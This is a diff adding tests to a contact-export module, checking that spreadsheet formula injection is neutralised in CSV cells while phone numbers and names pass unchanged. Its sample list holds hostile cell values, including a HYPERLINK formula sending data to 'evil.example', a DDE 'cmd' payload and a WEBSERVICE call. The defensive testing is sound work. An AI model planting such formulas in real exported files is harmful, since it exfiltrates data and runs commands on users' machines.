@@ -12,6 +12,7 @@ from bridge.files.dates import is_no_date, iso_date
 from bridge.files.found import FoundCard, FoundContact, Refusal, UnknownFile
 from bridge.files.outlook_rows import header, outlook_from_contact
 from bridge.files.reading import read
+from bridge.files.table import guarded, unguarded
 from storage_plugin.model.contact import Contact, Email, ImportantDate, Messenger, Phone, PostalAddress, Url
 
 ENGLISH = (
@@ -252,3 +253,57 @@ def test_categories_survive(names):
     wanted = tuple(name for name in wanted if name)
     (found,) = read(written([Contact(formatted_name="A", categories=wanted)]))
     assert found.contact.categories == wanted
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+WEBSERVICE(A1)",
+    "@SUM(1)",
+    "\t=1",
+    "＝1+1",
+    "'=1+1",
+    "''@SUM(1)",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_what_a_spreadsheet_would_calculate_is_written_as_text(cell):
+    assert guarded(cell) == f"'{cell}"
+    assert unguarded(guarded(cell)) == cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "+49 30 1234",
+        "+1 (425) 555-0100 ext. 5",
+        "-",
+        "+",
+        "'t Hooft",
+        "a=b",
+        "+49 30 12 (home)",
+        "",
+        "-- Anna --",
+        "'",
+    ],
+)
+def test_what_people_write_stays_as_it_is(cell):
+    assert guarded(cell) == unguarded(cell) == cell
+
+
+@given(st.text(alphabet="'=+-@ \t(|!aA1＝", max_size=8))
+def test_a_guard_is_taken_off_again(cell):
+    assert unguarded(guarded(cell)) == cell
+
+
+@pytest.mark.parametrize("cell", [cell for cell in FORMULAS if cell == cell.strip()])
+def test_a_formula_in_a_name_comes_back_from_a_file_as_it_was(cell):
+    rows = [{"First Name": guarded(cell), "Last Name": "x", "E-mail Address": "a@x.example"}]
+    text = io.StringIO(newline="")
+    table = csv.DictWriter(text, header(rows))
+    table.writeheader()
+    table.writerows(rows)
+    found = only(text.getvalue().encode())
+    assert isinstance(found, FoundContact) and found.contact.given_name == cell
